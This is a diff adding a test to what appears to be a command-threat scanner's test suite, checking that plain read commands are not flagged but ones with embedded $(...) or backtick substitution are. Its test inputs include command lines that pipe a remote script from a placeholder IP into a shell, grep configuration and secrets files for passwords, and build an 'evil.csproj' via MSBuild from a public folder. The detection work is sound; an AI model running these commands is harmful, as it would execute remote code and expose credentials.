@@ -92,6 +92,15 @@ describe('ml on partial coverage', () => {
       expect(r.engines.ml.findings.map((f) => f.id)).toEqual(['ml.text.malicious']);
     });
 
+    it('a read that runs a command inside it ($(...) or backticks) is judged; the same read alone is not', () => {
+      for (const read of ['grep -rn password /etc/app/config.yml /etc/app/secrets.env', 'ls -la /var/log /tmp /home/deploy', 'reg query HKLM\\SOFTWARE\\Fabrikam\\Agent /v Version']) {
+        expect([read, judgeableShortText(read)]).toEqual([read, false]);
+      }
+      for (const run of ['grep -r password $(find / -name "*.conf" 2>/dev/null)', 'ls -la $(curl -s http://203.0.113.9/x.sh | sh)', 'ls -la `curl -s http://203.0.113.9/x.sh | sh`']) {
+        expect([run, judgeableShortText(run)]).toEqual([run, true]);
+      }
+    });
+
     it('an MSBuild build of a project in a temp or public folder is still Suspicious, by the rules', async () => {
       const r = await analyze({ content: Buffer.from('msbuild.exe C:\\Users\\Public\\evil.csproj /t:Build\n'), name: 'x.bat', scanType: 'file' }, deps);
       expect(r.safetyScore.threatLevel).toBe('Suspicious');
